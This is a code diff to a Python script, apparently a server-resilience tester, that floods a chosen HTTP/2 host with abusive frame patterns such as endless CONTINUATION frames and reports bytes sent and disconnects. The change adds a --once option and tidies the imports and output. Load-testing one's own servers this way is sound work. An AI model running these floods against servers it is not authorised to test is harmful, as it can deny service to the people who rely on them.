@@ -1,8 +1,12 @@
 """What a client can do that makes work and brings nothing, each for a while beside an honest provider.
 
-    hostile.py HOST:PORT SECONDS    prints a line for each: frames sent, how often it was sent away
+    hostile.py HOST:PORT SECONDS [--once]
+
+Prints a line for each: bytes sent, and how often it was sent away. With --once each ends when it was.
 """
-import socket, sys, time
+import socket
+import sys
+import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
@@ -41,10 +45,10 @@ BY_STREAM = {
     "CONTINUATION without end": streams(lambda id: frame(1, 0, id, HEAD) + b"".join(frame(9, 0, id) for _ in range(20))),
 }
 
-def attack(address, name, seconds):
+def attack(address, name, seconds, once):
     end = time.monotonic() + seconds
     sent = away = 0
-    while time.monotonic() < end:
+    while time.monotonic() < end and not (once and away):
         try:
             peer = socket.create_connection(address, 2)
             peer.settimeout(.2)
@@ -76,5 +80,5 @@ def attack(address, name, seconds):
 if __name__ == "__main__":
     host, port = sys.argv[1].rsplit(":", 1)
     for name in [*ENDLESS, *BY_STREAM]:
-        sent, away = attack((host, int(port)), name, float(sys.argv[2]))
-        print(f"{name:32} {sent / 1e6:8.1f} MB sent, sent away {away} times", flush=True)
+        sent, away = attack((host, int(port)), name, float(sys.argv[2]), "--once" in sys.argv)
+        print(f"{name:32} {sent / 1e6:8.1f} MB, sent away {away} times", flush=True)
